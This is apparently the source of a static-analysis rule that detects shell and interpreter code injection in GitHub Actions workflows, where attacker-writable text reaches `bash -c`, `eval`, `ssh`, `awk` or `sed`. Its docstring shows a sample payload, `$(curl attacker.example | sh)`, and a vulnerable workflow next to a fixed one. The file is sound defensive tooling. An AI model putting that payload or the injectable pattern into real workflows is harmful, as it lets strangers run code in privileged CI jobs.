"""Text of strangers becomes code of a program that a script starts.

## Why is this bad?
A variable keeps the text out of the script, but not out of what the script hands on as code: in `bash -c "echo $TITLE"`, `eval "$TITLE"`
or `ssh host "deploy $BRANCH"` another shell reads it once more, and a title like `$(curl attacker.example | sh)` is run. `awk` and
`python -c` run what stands in their program, and GNU `sed` runs what follows the letter `e`.

Reported is text that anybody can write, in runs that have powers. What `${{ }}` puts there is a matter of `template-injection`.

High: it is the code of a shell or of a language. Medium: it is part of a `sed` script, out of which it has to break first.

## Example
```yaml
on: issue_comment
permissions:
  contents: write
jobs:
  bench:
    runs-on: ubuntu-latest
    steps:
      - env:
          BODY: ${{ github.event.comment.body }}
        run: docker run -v "$PWD:/src" bench sh -c "./bench.sh $BODY"
```

Use instead:
```yaml
on: issue_comment
permissions:
  contents: write
jobs:
  bench:
    runs-on: ubuntu-latest
    steps:
      - env:
          BODY: ${{ github.event.comment.body }}
        run: docker run -v "$PWD:/src" bench sh -c './bench.sh "$1"' sh "$BODY"
```

What follows the code is an argument of it: `"$1"` in a shell, `sys.argv[1]` in Python, `-v name="$BODY"` of `awk`, `--arg` of `jq`.

## References
- [Script injections](https://docs.github.com/en/actions/concepts/security/script-injections)
- [The command `e` of GNU sed](https://www.gnu.org/software/sed/manual/sed.html#index-e-_0028evaluate_0029-command)
"""

from __future__ import annotations

from collections.abc import Iterator

from steplock.lazy import pattern
from steplock.model import Action, Step
from steplock.rule import Confidence, Context, Finding, Related, Severity, rule
from steplock.shell import Command, Expansion, Word
from steplock.taint import Analysis, Control, Taint, Who, analysis, in_word

_SHELLS = frozenset(["ash", "bash", "dash", "ksh", "sh", "zsh"])
_SHELL_FLAG = pattern(r"-[a-z]*c")
# By program: the flags behind which code stands.
_FLAGS = {
    "deno": ("eval",),
    "node": ("-e", "--eval", "-p", "--print", "-pe"),
    "perl": ("-e", "-E", "-ne", "-pe", "-lne", "-lpe"),
    "php": ("-r",),
    "powershell": ("-c", "-Command"),
    "pwsh": ("-c", "-Command"),
    "python": ("-c",),
    "python3": ("-c",),
    "ruby": ("-e", "-ne", "-pe"),
}
_AWKS = frozenset(["awk", "gawk", "mawk", "nawk"])
_SEDS = frozenset(["gsed", "sed"])
_SSH_VALUED = frozenset(f"-{letter}" for letter in "BbcDEeFIiJLlmOopQRSWw")
# Names of variables whose text was made harmless, as far as one can believe a name.
_ESCAPED = pattern(r"(?i)esc|quoted|safe|sanit|clean")
_EVENTS = (
    "discussion",
    "gollum",
    "issue",
    "pull_request_review",
    "pull_request_target",
    "using",
    "workflow_call",
    "workflow_run",
)


@rule(severity=Severity.HIGH, words=_EVENTS)
def check(step: Step, context: Context) -> Iterator[Finding]:
    if step.run is None or step.script is None:
        return
    held: Analysis | None = None
    for command in step.script.commands:
        for word in _code(command):
            if not word.expansions:
                continue
            if held is None:
                held = analysis(step.file, context.repository)
                if not (isinstance(step.file, Action) or held.strangers(step).powerful):
                    return
            found = _worst(held, step, command, word)
            if found is not None:
                yield _finding(step, command, *found, context)
                break


def _worst(
    held: Analysis, step: Step, command: Command, word: Word
) -> tuple[Expansion, Taint] | None:
    """The first part of a word that is a stranger's text."""
    for expansion in word.expansions:
        if expansion.kind == "fence" or _ESCAPED.search(expansion.name):
            continue
        for taint in in_word(held, step, word._replace(expansions=(expansion,))):
            if taint.who is Who.STRANGER and taint.control is Control.FREE:
                return expansion, taint
    return None


def _finding(
    step: Step, command: Command, expansion: Expansion, taint: Taint, context: Context
) -> Finding:
    assert step.run is not None
    written = step.run.value[slice(*expansion.span)]
    short = written if len(written) <= 40 else f"{written[:37]}..."
    sed = command.name in _SEDS
    does = "break out of it and have `sed` run commands" if sed else "run commands here"
    return Finding(
        step.document.locate(step.run, expansion.span),
        f"`{short}` ({taint.what}) becomes code of `{command.name}`: anybody can write it, and so {does}; "
        f"pass it as an argument",
        severity=Severity.MEDIUM if sed else None,
        confidence=Confidence.HIGH if taint.certain else Confidence.MEDIUM,
        related=tuple(
            Related(hop.message, hop.span, None if hop.path == context.path else hop.path)
            for hop in taint.hops
        ),
        scope=step.span,
    )


def _code(command: Command) -> Iterator[Word]:
    """The words of a command that are run as code."""
    name = command.name
    if name in ("eval", "iex", "invoke-expression"):
        yield from command.argv
    elif name in _AWKS:
        if not command.has_flag("-f", "--file"):
            yield from command.operands(("-F", "-v"))[:1]
    elif name in _SEDS:
        yield from _of_sed(command)
    elif name == "ssh":
        yield from command.operands(_SSH_VALUED)[1:]
        yield from _read(command)
    elif name in _FLAGS:
        yield from _behind(command, _FLAGS[name])
    else:
        yield from _of_shells(command)


def _of_shells(command: Command) -> Iterator[Word]:
    """The code of a shell, started by another program too: `docker exec box sh -c "..."`."""
    words = (*command.words[command.head :],)
    for at, word in enumerate(words[:-2]):
        shell = word.value.rpartition("/")[2] in _SHELLS
        if shell and _SHELL_FLAG.fullmatch(words[at + 1].value):
            yield words[at + 2]
    if command.name in _SHELLS and not command.arguments:
        yield from _read(command)


def _of_sed(command: Command) -> Iterator[Word]:
    given = tuple(_behind(command, ("-e", "--expression")))
    if given or command.has_flag("-f", "--file"):
        yield from given
    else:
        yield from command.operands(("-l",))[:1]


def _read(command: Command) -> Iterator[Word]:
    """What it is given to read: a here-document, a here-string."""
    for redirect in (*command.redirects, *command.inherited):
        if redirect.op.startswith("<<"):
            yield redirect.body or redirect.target


def _behind(command: Command, flags: tuple[str, ...]) -> Iterator[Word]:
    argv = command.argv
    yield from (argv[at + 1] for at, word in enumerate(argv[:-1]) if word.value in flags)
